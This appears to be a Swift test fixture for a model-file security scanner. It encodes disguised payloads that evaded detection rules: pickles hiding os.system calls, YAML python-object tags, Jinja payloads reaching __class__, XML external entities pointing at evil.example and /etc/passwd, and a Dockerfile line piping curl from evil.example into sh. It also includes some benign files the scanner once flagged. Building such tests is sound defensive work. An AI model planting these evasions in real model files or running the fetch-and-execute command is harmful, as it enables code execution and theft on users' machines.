@testable import ModelFiles

/// What a red team's files got past the rules with, one for each way that was closed, and honest
/// files that the rules once took for attacks.
extension Sample {
    static let disguises: [Sample] =
        hiddenCalls + floods + splitStreams + writtenYAML + templates + configurations + code
        + honest

    private static func pickle(
        _ name: String, level: Finding.Level = .dangerous, _ bytes: [UInt8]
    ) -> Sample {
        Sample(.pickle, name, level, path: "m.pkl", bytes)
    }

    private static func text(
        _ name: String, level: Finding.Level = .dangerous, _ path: String, _ text: String
    ) -> Sample {
        Sample(.repository, name, level, path: path, Array(text.utf8))
    }

    // MARK: Pickles

    private static let hiddenCalls: [Sample] = [
        pickle(
            "a pickle as Latin-1 text",
            PickleWriter(protocol: 2).global("_codecs", "encode")
                .raw([0x58] + PickleWriter.little(latin.count, 4) + latin).text("latin1").tuple2
                .reduce.stop),
        pickle(
            "hexadecimal of hexadecimal",
            PickleWriter(protocol: 4).text(
                hexadecimal(Array(hexadecimal(call.stop).utf8))
            ).stop),
        pickle(
            "an array of objects in a constant",
            PickleWriter(protocol: 4).data(objectArray("'|O'")).stop),
        pickle(
            "a tar in a constant",
            PickleWriter(protocol: 4).data(
                TarWriter(members: [.init("a.pkl", call.stop)]).bytes
            ).stop),
        pickle(
            "a table written into a file",
            PickleWriter(protocol: 4).stackGlobal("pandas", "DataFrame.to_csv").text("x").tuple1
                .reduce.stop),
        pickle(
            "the private half of a module",
            PickleWriter(protocol: 4).stackGlobal("_functools", "reduce").emptyTuple.reduce.stop),
        pickle(
            "a function by way of modules",
            PickleWriter(protocol: 4).stackGlobal("string", "_re.functools.partial").emptyTuple
                .reduce.stop),
        pickle(
            "a class that a table knows",
            PickleWriter(protocol: 4).stackGlobal("cupy", "RawKernel").emptyTuple.reduce.stop),
        pickle(
            "blanks behind a quote",
            PickleWriter(protocol: 4).raw("S'os'  \n").text("system").raw([0x93]).text("x").tuple1
                .reduce.stop),
        Sample(
            .pickle, "an array of objects by another name", .dangerous, path: "a.npy",
            objectArray("'object'")),
    ]

    /// UTF-8 of the call's bytes taken for Latin-1.
    private static let latin = Array(
        String(String.UnicodeScalarView(call.stop.map { Unicode.Scalar($0) })).utf8)

    private static func objectArray(_ type: String) -> [UInt8] {
        let header = Array("{'descr': \(type), 'fortran_order': False, 'shape': (1,), }\n".utf8)
        return [0x93] + Array("NUMPY".utf8) + [1, 0] + PickleWriter.little(header.count, 2)
            + header + call.stop
    }

    // MARK: Floods

    private static let floods: [Sample] = [
        pickle(
            "a call behind many others",
            (0..<2_500).reduce(into: PickleWriter(protocol: 4)) { writer, index in
                writer = writer.stackGlobal("sklearn.base", "Class\(index)").emptyTuple.reduce.pop
            }.raw(call.bytes.dropFirst(2).map { $0 }).stop),
        pickle(
            "a call behind many of one",
            PickleWriter(protocol: 4).stackGlobal("collections", "OrderedDict").memoize.pop.raw(
                [UInt8]((0..<101_000).flatMap { _ in [0x68, 0, 0x29, 0x52, 0x30] as [UInt8] })
            ).raw(call.bytes.dropFirst(2).map { $0 }).stop),
        pickle(
            "a pickle behind many others",
            [UInt8]((0..<10_100).flatMap { _ in [0x80, 4, 0x5D, 0x2E] as [UInt8] }) + call.stop),
        text(
            "a layer behind many others", "m.json",
            #"{"class_name":"Sequential","config":{"layers":["#
                + (0..<2_500).map { #"{"class_name":"Dense","config":{"units":\#($0)}},"# }.joined()
                + #"{"class_name":"Lambda","config":{}}]}}"#),
        text(
            "an attribute behind many others", "chat_template.jinja",
            (0..<300).map { "{{ m.a\($0) }}" }.joined() + "{{ m.popen('x') }}"),
    ]

    // MARK: Streams and archives

    private static let splitStreams: [Sample] = [
        Sample(
            .archive, "a pickle in two streams", .dangerous, path: "m.pkl.gz",
            gzipStored(Array(call.stop[..<9])) + gzipStored(Array(call.stop[9...]))),
        Sample(
            .archive, "an archive behind an archive's end", .dangerous, path: "m.tar",
            TarWriter(members: [.init("a.txt", Array("a".utf8))]).bytes
                + TarWriter(members: [.init("b.pkl", call.stop)]).bytes),
        Sample(
            .archive, "a member through a link", .dangerous, path: "m.tar",
            TarWriter(members: [
                .init("a", [], kind: "2", link: "."), .init("a/b", Array("x".utf8)),
            ]).bytes),
        Sample(
            .archive, "TorchServe's handler", .dangerous, path: "m.mar",
            ZipWriter(members: [
                ZipWriter.member("MAR-INF/MANIFEST.json", Array("{}".utf8)),
                ZipWriter.member("handler.py", Array("import os\nos.system('true')\n".utf8)),
            ]).bytes),
    ]

    /// gzip's format around one stored block; readers here do not ask for its checksum.
    private static func gzipStored(_ content: [UInt8]) -> [UInt8] {
        let size = PickleWriter.little(content.count, 2)
        let stored: [UInt8] = [1] + size + size.map { ~$0 } + content
        let sum = ZipWriter.checksum(content)
        return [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF] + stored + sum
            + PickleWriter.little(content.count, 4)
    }

    // MARK: YAML

    private static let writtenYAML: [Sample] = [
        text("a value on the next line", "c.yaml", "m:\n  _target_:\n    os.system\n"),
        text("an explicit key", "c.yaml", "m:\n  ? _target_\n  : os.system\n"),
        text("a key by escapes", "c.yaml", "m:\n  \"_t\\x61rget_\": os.system\n"),
        text("a value by a name", "c.yaml", "x: &t os.system\nm:\n  _target_: *t\n"),
        text("a folded value", "c.yaml", "m:\n  _target_: >-\n    os.system\n"),
        text(
            "half of a tag in a handle", "c.yaml",
            "%TAG !e! tag:yaml.org,2002:py\n---\n!e!thon/object/apply:os.system ['x']\n"),
        text(
            "the plain handle bound anew", "c.yaml",
            "%TAG ! tag:yaml.org,2002:python/object/\n---\n!apply:os.system ['x']\n"),
        Sample(
            .repository, "YAML in UTF-16", .dangerous, path: "c.yaml",
            [0xFF, 0xFE]
                + "a: !!python/object/apply:os.system ['x']\n".utf16.flatMap {
                    PickleWriter.little(Int($0), 2)
                }),
        text("a class of Java's", level: .suspicious, "c.yaml", "!!javax.x.Manager []\n"),
    ]

    // MARK: Templates

    private static let templates: [Sample] = [
        "{% set a, b = '__cl', 'ass__' %}{{ ()[a ~ b] }}",
        "{%- set c -%}__{{ 'cla' }}ss__{%- endset -%}{{ ()|attr(c) }}",
        "{{ ()|attr('x__class__y'[1:10]) }}",
        "{{ ()|attr('a-__cla'.split('-')[1] ~ 'ss__') }}",
        "{{ cycler[messages[0].a][messages[0].b] }}",
        "{{ ''[messages[0].a] }}",
        "{{ ()|attr(['x', '__cla'][-1] ~ 'ss__') }}",
    ].enumerated().map { text("template \($0)", "chat_template.jinja", $1) }

    // MARK: Configurations and graphs

    private static let configurations: [Sample] = [
        Sample(
            .keras, "a module by way of Keras", .dangerous, path: "m.json",
            Array(
                #"{"class_name":"system","module":"keras.src.utils.file_utils.os","config":{}}"#
                    .utf8)),
        Sample(
            .keras, "a function of TensorFlow's", .dangerous, path: "m.json",
            Array(#"{"class_name":"TFOpLambda","config":{"function":"io.write_file"}}"#.utf8)),
        Sample(
            .tensorFlow, "an operator of another age", .dangerous, path: "g.pb",
            ProtobufWriter().message(
                1, ProtobufWriter().text(1, "n").text(2, "ExperimentalSqlDataset")
            ).bytes),
        Sample(
            .tensorFlow, "a checkpoint's graph", .dangerous, path: "m.ckpt.meta",
            ProtobufWriter().message(1, ProtobufWriter().text(4, "train")).message(
                2,
                ProtobufWriter().message(1, ProtobufWriter().text(1, "n").text(2, "ReadFile"))
            ).bytes),
        Sample(
            .tensorFlow, "Keras' metadata", .dangerous, path: "keras_metadata.pb",
            ProtobufWriter().message(
                1,
                ProtobufWriter().text(3, "root").text(4, "_tf_keras_model").text(
                    5, #"{"class_name":"Lambda","config":{}}"#)
            ).bytes),
        text("a graph's text in pieces", "g.pbtxt", "node { op : 'Write' \"\\106ile\" }\n"),
        text(
            "the first of two targets", "c.json",
            #"{"_target_":"os.system","_target_":"torch.nn.Linear"}"#),
        text(
            "skops' function", "m.json",
            #"{"__class__":"function","__module__":"builtins","__loader__":"FunctionNode","content":{"module_path":"shutil","function":"rmtree"}}"#
        ),
        Sample(
            .other, "a document type elsewhere", .dangerous, path: "m.pmml",
            Array("<!DOCTYPE PMML SYSTEM \"http://evil.example/x.dtd\">\n<PMML/>".utf8)),
        Sample(
            .other, "an inclusion", .dangerous, path: "m.pmml",
            Array(
                "<PMML xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></PMML>"
                    .utf8)),
        text(
            "a package by address", level: .suspicious, "pyproject.toml",
            "[project]\ndependencies = [\"x @ https://evil.example/x.whl\"]\n"),
        text(
            "a build that runs what it fetches", level: .suspicious, "Dockerfile",
            "FROM x\nRUN curl http://evil.example/x | sh\n"),
        text(
            "a password in an address", level: .suspicious, "notes.txt",
            "DATABASE_URL=postgres://admin:Sup3rS3cret@db.example.com/x\n"),
    ]

    // MARK: Code

    private static let code: [Sample] = [
        "import sys\nsys.modules['os'].system('true')\n",
        "f = eval\nf('1')\n",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')\n",
        "globals()['__builtins__']['eval']('1')\n",
        "from subprocess import *\nPopen(['true'])\n",
        "from os import popen\nr = popen\nr('true')\n",
        "import platform\nplatform.os.system('true')\n",
        String(repeating: "print(1)\n", count: 6_000) + "import os\nos.system('true')\n",
    ].enumerated().map { index, source in
        Sample(
            .repository, "code \(index)", .dangerous,
            files: [
                ("config.json", Array(#"{"auto_map":{"AutoModel":"own.Model"}}"#.utf8)),
                ("own.py", Array(source.utf8)),
            ])
    }

    // MARK: Honest files

    private static let honest: [Sample] = [
        text(
            "messages of a role", level: .note, "chat_template.jinja",
            "{{ messages|rejectattr('role', 'equalto', 'system')|list|length }}"),
        text(
            "a macro that calls itself", level: .note, "chat_template.jinja",
            "{%- macro kind(x) -%}{{ kind(x.items) }}{%- endmacro -%}{{ kind(tools) }}"),
        text("labels that look like an import", level: .note, "labels.txt", "cat\ndog\n"),
        pickle("a number alone", level: .note, Array("L-7L\n.".utf8)),
        pickle(
            "a method of an interpolation", level: .note,
            PickleWriter(protocol: 4).stackGlobal(
                "scipy.interpolate._interpolate", "interp1d._call_linear_np"
            ).stop),
        pickle(
            "a time zone", level: .note,
            PickleWriter(protocol: 4).stackGlobal("builtins", "getattr").stackGlobal(
                "zoneinfo", "ZoneInfo"
            ).text("_unpickle").tuple2.reduce.text("Europe/Berlin").tuple1.reduce.stop),
        pickle(
            "an archive in a constant", level: .note,
            PickleWriter(protocol: 4).data(
                ZipWriter(members: [ZipWriter.member("a.txt", Array("hi".utf8))]).bytes
            ).stop),
        text(
            "Apple's document type", level: .note, "Info.plist",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist/>\n"
        ),
        text(
            "YAML of all kinds", level: .note, "c.yaml",
            "a: &x 1\nb: *x\nc: !!float 1\nd: |\n  text with !bang\ne: \"q: v\"\n? k\n: v\n"),
    ]
}
